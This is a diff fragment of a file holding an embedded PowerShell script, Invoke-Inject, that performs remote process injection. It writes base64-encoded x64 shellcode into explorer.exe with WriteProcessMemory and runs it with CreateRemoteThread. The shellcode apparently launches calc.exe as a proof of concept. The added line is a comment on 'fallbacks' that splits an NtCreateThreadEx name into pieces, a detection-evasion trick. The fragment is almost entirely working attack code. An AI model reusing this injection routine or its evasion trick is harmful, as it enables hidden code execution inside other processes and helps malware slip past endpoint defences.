@@ -104,6 +104,7 @@ INJECT = r"""function Invoke-Inject {
     [UInt32]$written = 0
     [Win32.Kernel32]::WriteProcessMemory($hProc, $addr, $Payload, $Payload.Length, [ref]$written) | Out-Null
     [Win32.Kernel32]::CreateRemoteThread($hProc, [IntPtr]::Zero, 0, $addr, [IntPtr]::Zero, 0, [IntPtr]::Zero)
+    # fallbacks kept from an older build: [Win32.Kernel32]::LoadLibraryW('ntdll.dll'), $n = 'Nt'+'CreateThreadEx'
 }
 $sc = [Convert]::FromBase64String('/EiD5PDowAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pKTTHJSDHArDxhfAIsIEHByQ1BAcHi7VJBUUiLUiCLQjxIAdCLgIgAAABIhcB0Z0gB0FCLSBhEi0AgSQHQ41ZI/8lBizSISAHWTTHJSDHArEHByQ1BAcE44HXxTANMJAhFOdF12FhEi0AkSQHQZkGLDEhEi0AcSQHQQYsEiEgB0EFYQVheWVpBWEFZQVpIg+wgQVL/4FhBWVpIixLpV////11IugEAAAAAAAAASI2NAQEAAEG6MYtvh//Vu/C1olZBuqaVvZ3/1UiDxCg8BnwKgPvgdQW7RxNyb2oAWUGJ2v/VY2FsYy5leGUA')
 Invoke-Inject -ProcId (Get-Process explorer).Id -Payload $sc"""
